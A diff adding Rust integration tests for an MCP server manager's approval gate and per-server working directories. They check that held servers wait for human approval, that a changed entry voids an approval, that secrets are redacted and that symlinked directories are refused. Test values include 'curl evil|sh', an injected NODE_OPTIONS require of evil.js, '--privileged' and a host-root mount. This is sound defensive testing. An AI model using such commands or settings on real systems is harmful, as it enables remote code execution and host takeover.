@@ -1,0 +1,284 @@
+//! Servers that are not started until a person agrees, and the directory that each server runs in.
+
+use std::{fs, path::PathBuf};
+
+use serde_json::{Value, json};
+
+use crate::api_rig::{FIXTURE, Rig};
+
+/// An entry that leaves a trace when it is started, and would work then.
+fn held(trace: &std::path::Path) -> Value {
+    let script = format!(
+        "echo started >> '{}'; exec '{FIXTURE}' mcp",
+        trace.display()
+    );
+    json!({ "command": "sh", "args": ["-c", script], "hold": true })
+}
+
+/// What would be started of the server `s`.
+async fn start_of(rig: &Rig) -> Value {
+    let trust = rig.get("/api/v1/trust?server=s").await.json();
+    trust["servers"][0]["start"].clone()
+}
+
+/// The question about the start of `s` that waits, once there is one with this in its program.
+async fn asked(rig: &Rig, program: &str) -> Value {
+    let path = "/api/v1/approvals?status=pending&kind=trust";
+    let says = |only: &Value| {
+        let said = only["request"]["start"]["program"].as_str();
+        said.is_some_and(|said| said.contains(program))
+    };
+    let answer = rig
+        .until(path, |answer| {
+            let waiting = answer["approvals"].as_array().unwrap();
+            waiting.len() == 1 && says(&waiting[0])
+        })
+        .await;
+    answer["approvals"][0].clone()
+}
+
+fn file(rig: &Rig) -> Value {
+    serde_json::from_str(&fs::read_to_string(rig.config_file()).unwrap()).unwrap()
+}
+
+#[tokio::test]
+async fn engine_of_a_held_server_does_not_run() {
+    let folder = tempfile::tempdir().unwrap();
+    let engine = |name: &str, told: &str| {
+        let (script, told) = (folder.path().join(name), folder.path().join(told));
+        let text = format!("echo \"$1\" >> '{}'", told.display());
+        fs::write(&script, text).unwrap();
+        json!({ "engine": ["sh", script] })
+    };
+    // Engines are asked in the order of the servers' names.
+    let rig = Rig::with(json!({
+        "a": { "image": "i", "isolation": engine("1", "held"), "hold": true },
+        "b": { "image": "i", "isolation": engine("2", "disabled"), "enabled": false },
+        "c": { "image": "i", "isolation": engine("3", "used") },
+    }))
+    .await;
+    let used = folder.path().join("used");
+    let asked = || fs::read_to_string(&used).is_ok_and(|told| told.contains("ps\n"));
+    rig.until("/api/v1/status", |_| asked()).await;
+    for told in ["held", "disabled"] {
+        assert!(!folder.path().join(told).exists(), "{told}");
+    }
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn changed_entry_is_not_started_as_approved() {
+    let command =
+        json!({ "command": "sh", "args": ["-c", "echo ok"], "env": { "NODE_OPTIONS": "" } });
+    let remote = json!({ "url": "https://example.com/mcp", "headers": { "X-A": "b" } });
+    let container = json!({ "image": "i", "isolation": { "runArgs": ["-q"] } });
+    for (entry, pointer, other) in [
+        (&command, "/args/1", "curl evil|sh"),
+        (&command, "/env/NODE_OPTIONS", "--require ./evil.js"),
+        (&remote, "/url", "https://example.com/other"),
+        (&remote, "/headers/X-A", "c"),
+        (&container, "/isolation/runArgs/0", "--privileged"),
+    ] {
+        let mut entry = entry.clone();
+        entry["hold"] = true.into();
+        let rig = Rig::with(json!({ "s": entry })).await;
+        let seen = start_of(&rig).await;
+        let first = asked(&rig, "").await;
+        assert_eq!(first["request"]["start"], seen, "{pointer}");
+        *entry.pointer_mut(pointer).unwrap() = other.into();
+        rig.reconfigure(&json!({ "mcpServers": { "s": entry } }))
+            .await;
+        let decided = json!({ "start": seen["fingerprint"] });
+        rig.post("/api/v1/trust/s/approve", &decided)
+            .await
+            .problem(409);
+        assert_eq!(file(&rig)["mcpServers"]["s"]["hold"], true, "{pointer}");
+        rig.until_status(&first["id"], "withdrawn").await;
+        rig.stop().await;
+    }
+}
+
+#[tokio::test]
+async fn approver_is_shown_what_would_run() {
+    for (entry, program, settings) in [
+        (
+            json!({
+                "command": "sh", "args": ["-c", "echo 'a b'", "$X", ""], "env": { "KEY": "v4lue1" },
+                "inheritEnv": ["DISPLAY"], "cwd": "/srv",
+            }),
+            r"sh -c 'echo '\''a b'\''' '$X' ''",
+            json!({ "env": ["KEY"], "inheritEnv": ["DISPLAY"], "cwd": "/srv" }),
+        ),
+        (
+            json!({ "url": "https://u:v4lue1@example.com/a/mcp?key=v4lue1", "headers": { "X-Key": "v4lue1" } }),
+            "https://[redacted]@example.com/a/mcp?key=[redacted]",
+            json!({ "headers": ["X-Key"] }),
+        ),
+        (
+            json!({
+                "image": "i", "args": ["x y"], "env": { "KEY": "v4lue1" },
+                "isolation": {
+                    "engine": ["./engine", "-q"], "network": "web", "mounts": ["/:/host"],
+                    "readOnly": true, "runArgs": ["--privileged"], "memory": "2g", "cpus": 1.5, "pids": 9,
+                },
+            }),
+            "i 'x y'",
+            json!({
+                "engine": ["./engine", "-q"], "network": "web", "mounts": ["/:/host"],
+                "readOnly": true, "runArgs": ["--privileged"], "memory": "2g", "cpus": "1.5", "pids": 9,
+                "env": ["KEY"],
+            }),
+        ),
+    ] {
+        let mut entry = entry.clone();
+        entry["hold"] = true.into();
+        let rig = Rig::with(json!({ "s": entry })).await;
+        let start = start_of(&rig).await;
+        assert_eq!(start["program"], program);
+        assert_eq!(start["settings"], settings);
+        let asked = asked(&rig, "").await;
+        assert_eq!(asked["request"]["start"], start);
+        assert!(!asked.to_string().contains("v4lue1"), "{asked}");
+        rig.stop().await;
+    }
+}
+
+#[tokio::test]
+async fn held_server_stays_held_across_a_restart() {
+    let folder = tempfile::tempdir().unwrap();
+    let trace = folder.path().join("trace");
+    let rig = Rig::with(json!({ "s": held(&trace) })).await;
+    asked(&rig, "echo started").await;
+    let rig = rig.restarted(|_| {}).await;
+    let server = rig.get("/api/v1/servers/s").await.json();
+    assert_eq!(server["state"], "parked", "{server}");
+    // It is asked about after the time in which servers are started.
+    asked(&rig, "echo started").await;
+    rig.ask("POST", "/api/v1/servers/s/restart", None).await;
+    let detail = rig.call("s:echo", json!({})).await.json().to_string();
+    assert!(detail.contains("waiting for approval to start"), "{detail}");
+    assert!(!trace.exists());
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn held_server_is_approved_in_the_queue() {
+    let folder = tempfile::tempdir().unwrap();
+    let trace = folder.path().join("trace");
+    let rig = Rig::with(json!({ "s": held(&trace) })).await;
+    let asked = asked(&rig, "echo started").await;
+    assert_eq!(asked["server"], "s");
+    rig.decided(&asked["id"], "approve", json!({})).await;
+    rig.until_known("s").await;
+    assert!(trace.exists());
+    assert_eq!(file(&rig)["mcpServers"]["s"]["hold"], false);
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn held_server_is_rejected_in_the_queue() {
+    let folder = tempfile::tempdir().unwrap();
+    let trace = folder.path().join("trace");
+    let rig = Rig::with(json!({ "s": held(&trace) })).await;
+    let asked = asked(&rig, "echo started").await;
+    rig.decided(&asked["id"], "reject", json!({})).await;
+    rig.until("/api/v1/servers/s", |server| server["state"] == "disabled")
+        .await;
+    let entry = &file(&rig)["mcpServers"]["s"];
+    assert_eq!(
+        (&entry["hold"], &entry["enabled"]),
+        (&json!(true), &json!(false))
+    );
+    assert!(!trace.exists());
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn rejection_leaves_another_entry_alone() {
+    let entry = |word: &str| json!({ "command": "echo", "args": [word], "hold": true });
+    let rig = Rig::with(json!({ "s": entry("one") })).await;
+    let first = asked(&rig, "one").await;
+    // The file is another one by now, and not yet applied.
+    let text = file(&rig).to_string().replace("one", "two");
+    fs::write(rig.config_file(), text).unwrap();
+    rig.decided(&first["id"], "reject", json!({})).await;
+    asked(&rig, "two").await;
+    assert_eq!(file(&rig)["mcpServers"]["s"].get("enabled"), None);
+    rig.stop().await;
+}
+
+/// A server that writes down where it runs, and another argument.
+fn whereabouts(out: &std::path::Path, more: &str) -> Value {
+    let script = format!("pwd > '{}'; exec '{FIXTURE}' mcp", out.display());
+    json!({ "command": "sh", "args": ["-c", script, more] })
+}
+
+/// The directory that the server of this name has written down, once it is known.
+async fn directory(rig: &Rig, name: &str, out: &std::path::Path) -> PathBuf {
+    rig.until_known(name).await;
+    let written = fs::read_to_string(out).unwrap();
+    fs::remove_file(out).unwrap();
+    written.trim_end().into()
+}
+
+#[tokio::test]
+async fn another_program_runs_in_another_directory() {
+    let folder = tempfile::tempdir().unwrap();
+    let out = folder.path().join("out");
+    let rig = Rig::with(json!({ "s": whereabouts(&out, "one") })).await;
+    let first = directory(&rig, "s", &out).await;
+    fs::write(first.join(".npmrc"), "planted").unwrap();
+    rig.ask("DELETE", "/api/v1/servers/s", None).await;
+    rig.reconfigure(&json!({ "mcpServers": { "s": whereabouts(&out, "two") } }))
+        .await;
+    let second = directory(&rig, "s", &out).await;
+    assert_ne!(second, first);
+    assert_eq!(fs::read_dir(&second).unwrap().count(), 0);
+    // On some disks these two names are one.
+    rig.reconfigure(&json!({ "mcpServers": { "S": whereabouts(&out, "two") } }))
+        .await;
+    let third = directory(&rig, "S", &out).await;
+    let lower = |path: &PathBuf| path.to_str().unwrap().to_ascii_lowercase();
+    assert_ne!(lower(&third), lower(&second));
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn same_program_keeps_its_directory() {
+    let folder = tempfile::tempdir().unwrap();
+    let out = folder.path().join("out");
+    let mut entry = whereabouts(&out, "one");
+    entry["start"] = "eager".into();
+    let rig = Rig::with(json!({ "s": entry })).await;
+    let first = directory(&rig, "s", &out).await;
+    // A key is renewed.
+    entry["env"] = json!({ "KEY": "two" });
+    rig.reconfigure(&json!({ "mcpServers": { "s": entry } }))
+        .await;
+    rig.until("/api/v1/status", |_| out.exists()).await;
+    assert_eq!(directory(&rig, "s", &out).await, first);
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn linked_directory_is_refused_with_its_reason() {
+    let folder = tempfile::tempdir().unwrap();
+    let out = folder.path().join("out");
+    let rig = Rig::with(json!({ "s": whereabouts(&out, "") })).await;
+    let own = directory(&rig, "s", &out).await;
+    rig.ask("POST", "/api/v1/servers/s/disable", None).await;
+    rig.until("/api/v1/servers/s", |server| server["state"] == "disabled")
+        .await;
+    fs::remove_dir(&own).unwrap();
+    std::os::unix::fs::symlink(folder.path(), &own).unwrap();
+    rig.ask("POST", "/api/v1/servers/s/enable", None).await;
+    let answer = rig.ask("POST", "/api/v1/servers/s/restart", None).await;
+    assert_eq!(answer.status, 200, "{answer:?}");
+    let failed = rig
+        .until("/api/v1/servers/s", |server| server["state"] == "retrying")
+        .await;
+    let reason = failed["reason"].as_str().unwrap();
+    assert!(reason.contains("it is a symbolic link"), "{reason}");
+    assert!(reason.contains(own.to_str().unwrap()), "{reason}");
+    rig.stop().await;
+}
